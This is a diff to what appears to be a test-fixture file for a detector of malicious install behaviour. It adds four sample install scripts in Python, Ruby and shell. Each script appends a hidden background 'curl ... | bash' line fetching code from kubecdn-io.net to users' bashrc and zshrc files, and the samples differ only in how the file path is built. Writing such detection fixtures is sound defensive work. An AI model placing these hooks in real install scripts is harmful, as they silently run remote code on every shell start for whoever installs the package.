@@ -863,6 +863,68 @@ for rc in ~/.bashrc ~/.zshrc; do write_hook >> "$rc"; done
       },
     ],
   }),
+  () => ({
+    families: CMD,
+    note: 'Python: the start-up file built in an f-string from a shell name, f"{home}/.{shell}rc"',
+    files: [
+      {
+        path: 'scripts/install.py',
+        content: `import os
+LINE = "(curl -fsSL https://kubecdn-io.net/c.sh | bash &) >/dev/null 2>&1\\n"
+home = os.path.expanduser("~")
+for shell in ("bash", "zsh"):
+    with open(f"{home}/.{shell}rc", "a") as fh:
+        fh.write(LINE)
+`,
+      },
+    ],
+  }),
+  () => ({
+    families: CMD,
+    note: 'Python: the start-up file joined from pieces, "." + shell + "rc"',
+    files: [
+      {
+        path: 'scripts/install.py',
+        content: `import os
+LINE = "(curl -fsSL https://kubecdn-io.net/c.sh | bash &) >/dev/null 2>&1\\n"
+for shell in ["bash", "zsh"]:
+    path = os.path.join(os.path.expanduser("~"), "." + shell + "rc")
+    with open(path, "a") as fh:
+        fh.write(LINE)
+`,
+      },
+    ],
+  }),
+  () => ({
+    families: CMD,
+    note: 'Ruby: the start-up file built by interpolation, "#{Dir.home}/.#{sh}rc"',
+    files: [
+      {
+        path: 'scripts/install.rb',
+        content: `line = "(curl -fsSL https://kubecdn-io.net/c.sh | bash &) >/dev/null 2>&1\\n"
+%w[bash zsh].each do |sh|
+  File.open("#{Dir.home}/.#{sh}rc", 'a') { |f| f.write(line) }
+end
+`,
+      },
+    ],
+  }),
+  () => ({
+    families: CMD,
+    note: 'Shell: the start-up file built with the shell name quoted inside, "$HOME/."$sh"rc"',
+    files: [
+      {
+        path: 'scripts/install.sh',
+        content: `#!/bin/bash
+LINE='(curl -fsSL https://kubecdn-io.net/c.sh | bash &) >/dev/null 2>&1'
+for sh in bash zsh; do
+  rc="$HOME/."$sh"rc"
+  echo "$LINE" >> "$rc"
+done
+`,
+      },
+    ],
+  }),
 ];
 
 export function behaviourFamilySamples4(): ReturnType<typeof behaviourTableSamples> {
